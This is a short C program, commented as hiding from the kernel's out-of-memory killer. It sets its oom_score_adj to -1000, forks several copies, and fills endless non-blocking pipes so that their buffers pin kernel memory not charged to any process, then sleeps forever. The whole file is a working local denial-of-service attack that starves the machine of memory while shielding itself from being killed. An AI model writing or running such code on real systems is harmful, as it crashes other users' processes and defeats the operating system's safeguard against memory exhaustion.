// Makes itself the last that the kernel would kill for memory, as far as it may, and takes memory that is in no process.
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static char full[1 << 16];

static void hide(void) {
  static const char *const scores[] = {"500", "250", "100", "0", "-1000"};
  for (int number = 0; number < 5; number++) {
    int file = open("/proc/self/oom_score_adj", O_WRONLY);
    ssize_t ignored = write(file, scores[number], strlen(scores[number]));
    (void)ignored;
    close(file);
  }
}

int main(void) {
  hide();
  for (int child = 1; child < 8 && fork() != 0; child++) {
  }
  int ends[2];
  while (pipe2(ends, O_NONBLOCK) == 0) {
    while (write(ends[1], full, sizeof full) > 0) {
    }
  }
  for (;;) pause();
}
